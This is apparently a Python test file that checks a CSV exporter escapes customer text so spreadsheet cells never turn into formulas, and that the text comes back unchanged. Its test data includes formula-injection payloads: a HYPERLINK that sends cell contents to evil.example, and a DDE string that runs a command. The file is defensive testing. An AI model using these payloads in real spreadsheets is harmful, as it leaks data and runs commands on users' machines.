"""What customers write is text in every spreadsheet, and the same text when it comes back."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from flywheel.files.csv_cells import cell, content
from flywheel.ingestion.labeling_queue import Item, as_csv, labeled_rows
from flywheel.text.normalize import text_id

AT = datetime(2026, 1, 1, tzinfo=UTC)
FORMULA = re.compile("(?:^|[;\t\r\n])[=+\\-@\uff1d\uff0b\uff0d\uff20]")
TRICKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\uff1d1+1",
    "fine;=1+1",
    "two\n=1+1",
    "'=quoted before",
    "''@twice",
    "'tis nothing",
    "smiles ;-)",
]
hostile = st.text(alphabet="=+-@';\t\r\n a\uff1d", max_size=12) | st.text(max_size=20)


def item(text: str, group: str = "g1") -> Item:
    return Item(text_id(text), text, group, "-1", "audit", 1.0, 0.5)


def returned(exported: str, label: str) -> str:
    """The file as a person sends it back."""
    lines = list(csv.DictReader(io.StringIO(exported, newline="")))
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, lines[0])
    writer.writeheader()
    writer.writerows({**line, "label": label} for line in lines)
    return out.getvalue()


@pytest.mark.parametrize("text", TRICKS)
def test_no_cell_of_a_queue_is_a_formula_and_the_text_comes_back(text: str) -> None:
    exported = as_csv([item(text, group=text)])
    ((_, *cells),) = (list(line.values()) for line in csv.DictReader(io.StringIO(exported)))
    assert not [one for one in cells if FORMULA.search(one)]
    (row,) = labeled_rows(
        "a.csv", returned(exported, "good"), rater="ann", given_at=AT, labels=()
    ).rows
    assert row["text"].split() == text.split()
    assert row["group_id"].split() == text.split()


@given(hostile)
@example("'" * 3 + "=")
def test_what_is_escaped_is_undone_exactly(text: str) -> None:
    escaped = str(cell(text))
    assert content(escaped) == text
    assert not FORMULA.search(escaped)


def test_numbers_stay_numbers() -> None:
    assert [cell(value) for value in (-0.5, None, 3)] == [-0.5, None, 3]


@pytest.mark.parametrize("text", ["'=as it was", "=as it was"])
def test_a_queue_that_an_earlier_release_exported_is_taken_as_it_is(text: str) -> None:
    out = io.StringIO(newline="")
    columns = ("item_id", "text", "label", "reason")
    csv.writer(out).writerows([columns, (text_id(text), text, "good", "audit")])
    (row,) = labeled_rows("a.csv", out.getvalue(), rater="ann", given_at=AT, labels=("good",)).rows
    assert row["text"] == text


def test_a_label_copied_from_the_answers_is_that_label() -> None:
    exported = as_csv([item("hello")])
    assert ",'-1," in exported
    (row,) = labeled_rows(
        "a.csv", returned(exported, "'-1"), rater="ann", given_at=AT, labels=("-1", "+1")
    ).rows
    assert row["value"] == "-1"
